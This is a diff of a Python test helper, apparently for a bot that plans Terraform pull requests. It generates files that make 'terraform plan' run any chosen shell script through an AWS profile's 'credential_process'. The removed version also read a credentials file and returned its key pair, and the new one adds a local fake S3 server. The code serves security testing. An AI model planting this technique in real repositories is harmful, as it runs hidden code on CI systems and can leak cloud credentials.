@@ -1,63 +1,96 @@
-"""Code that runs a program of its own choice while it is planned, with nothing but what Terraform has built in.
+"""Code of a pull request that runs a program of its own choice while it is planned, by built-in means alone.
 
-`terraform_remote_state` reads an AWS profile from a file of the repository, and the profile names a program that is
-to print a key pair. The program here does what a test wants, then prints the key pair of the state.
+A remote state is read at plan time, and a profile of its configuration file names the program that knows the
+credentials. Whatever that program does beside answering is the attack.
 """
 
 from __future__ import annotations
 
-from typing import Final
+import socket
 
-from bot.ports import Backend
+PROGRAM = "program.sh"
+"""The file, beside the module, that holds the chosen script."""
 
-PROGRAM: Final = "hostile.sh"
-_KEYS: Final = "/gatewright/credentials"
-
-_CODE = """
-data "terraform_remote_state" "hostile" {{
+_MODULE = """
+data "terraform_remote_state" "hostile" {
   backend = "s3"
-  config = {{
-    bucket                      = "{bucket}"
-    key                         = "{key}"
+  config = {
+    bucket                      = "any"
+    key                         = "any"
     region                      = "auto"
-    endpoints                   = {{ s3 = "{endpoint}" }}
     profile                     = "hostile"
-    shared_config_files         = ["${{path.module}}/hostile.aws"]
+    shared_config_files         = ["profiles"]
+    endpoints                   = { s3 = "http://127.0.0.1:%(port)d" }
     use_path_style              = true
-    skip_s3_checksum            = true
     skip_credentials_validation = true
     skip_metadata_api_check     = true
     skip_region_validation      = true
     skip_requesting_account_id  = true
-  }}
-}}
+    skip_s3_checksum            = true
+  }
+}
 """
-_PROFILE = """[profile hostile]
-credential_process = /bin/sh {directory}/{program}
+_PROFILES = f"""
+[profile hostile]
+region = auto
+credential_process = sh {PROGRAM}
 """
-_SCRIPT = """# What a test wants comes first; nothing of it may reach the answer.
-exec 3>&1 1>&2
-{{
-{script}
-}}
-ID=$(sed -n 's/^aws_access_key_id = //p' {keys})
-SECRET=$(sed -n 's/^aws_secret_access_key = //p' {keys})
-printf '{{"Version":1,"AccessKeyId":"%s","SecretAccessKey":"%s"}}' "$ID" "$SECRET" >&3
+_PROGRAM = """
+{
+%(script)s
+} < /dev/null >&2
+exec python3 answers.py %(port)d
+"""
+_ANSWERS = """
+import os, signal, sys
+from http.server import BaseHTTPRequestHandler, HTTPServer
+
+STATE = b'{"version": 4, "terraform_version": "1.0.0", "serial": 1, "lineage": "any", "outputs": {}, "resources": []}'
+
+
+class Answers(BaseHTTPRequestHandler):
+    def do_HEAD(self):
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(STATE)))
+        self.end_headers()
+
+    def do_GET(self):
+        self.do_HEAD()
+        self.wfile.write(STATE)
+
+    def log_message(self, *_):
+        pass
+
+
+try:
+    server = HTTPServer(("127.0.0.1", int(sys.argv[1])), Answers)
+except OSError:
+    server = None  # The program was asked before, and its answers are still there.
+if server is not None and os.fork() == 0:
+    os.dup2(os.open(os.devnull, os.O_RDWR), 1)
+    signal.alarm(60)
+    server.serve_forever()
+print('{"Version": 1, "AccessKeyId": "any", "SecretAccessKey": "any"}')
 """
 
 
-def hostile_files(
-    script: str, *, backend: Backend | None = None, bucket: str = "", endpoint: str = "", key: str = ""
-) -> dict[str, str]:
-    """Return path -> text of files that run a shell script at plan time, in the sandbox's `/work/terraform`.
+def hostile(script: str, *, directory: str = "terraform") -> dict[str, str]:
+    """Return path -> text of code that runs a shell script whenever it is planned; the plan succeeds if the script does.
 
-    The script runs at least once. `key` names a state that is there, in `bucket` at `endpoint` (or where `backend`
-    says); without one the plan fails after the script has run.
+    The files stand beside those of a root module. The script runs in the root module, what it prints is a part of
+    Terraform's output, and `exit 1` makes the plan fail.
     """
-    if backend is not None:
-        bucket, endpoint, key = backend.bucket, backend.endpoint_url, key or backend.key
-    return {
-        "terraform/hostile.tf": _CODE.format(bucket=bucket, endpoint=endpoint, key=key),
-        "terraform/hostile.aws": _PROFILE.format(directory="/work/terraform", program=PROGRAM),
-        f"terraform/{PROGRAM}": _SCRIPT.format(script=script, keys=_KEYS),
+    port = _free_port()
+    files = {
+        "hostile.tf": _MODULE % {"port": port},
+        "profiles": _PROFILES,
+        PROGRAM: _PROGRAM % {"script": script, "port": port},
+        "answers.py": _ANSWERS,
     }
+    return {f"{directory}/{name}": text for name, text in files.items()}
+
+
+def _free_port() -> int:
+    with socket.socket() as opened:
+        opened.bind(("127.0.0.1", 0))
+        return int(opened.getsockname()[1])
